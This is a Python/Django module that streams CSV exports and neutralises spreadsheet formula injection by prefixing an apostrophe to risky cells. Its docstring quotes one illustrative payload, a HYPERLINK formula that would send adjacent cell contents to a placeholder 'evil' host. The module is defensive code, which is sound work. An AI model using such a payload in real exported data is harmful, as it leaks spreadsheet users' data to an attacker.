"""CSV exports (SPEC §13): streamed, UTF-8 with a BOM, every text cell safe to open in a spreadsheet.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or carriage return) as a formula: a livestream titled ``=HYPERLINK("http://evil/?"&A1,"click")``
would leak the rows beside it. Every text cell that begins with one of those characters is written
with a leading apostrophe, which spreadsheets show as text and do not evaluate (OWASP's advice).
Numbers, dates and times are written by the portal itself and never begin with one.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> object:
    """``value`` as a CSV cell: text that a spreadsheet would evaluate gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Echo:
    """A file-like object whose write returns the line, for streaming csv.writer output."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence, rows: Iterable[Sequence]) -> Iterable[str]:
    """The lines of a CSV file: a BOM and the header, then each row, every cell through safe_cell."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([safe_cell(str(label)) for label in header])
    for row in rows:
        yield writer.writerow([safe_cell(value) for value in row])


def csv_response(filename: str, header: Sequence, rows: Iterable[Sequence]) -> StreamingHttpResponse:
    """A streamed CSV download of ``rows`` (an iterator: the caller reads the database in chunks)."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
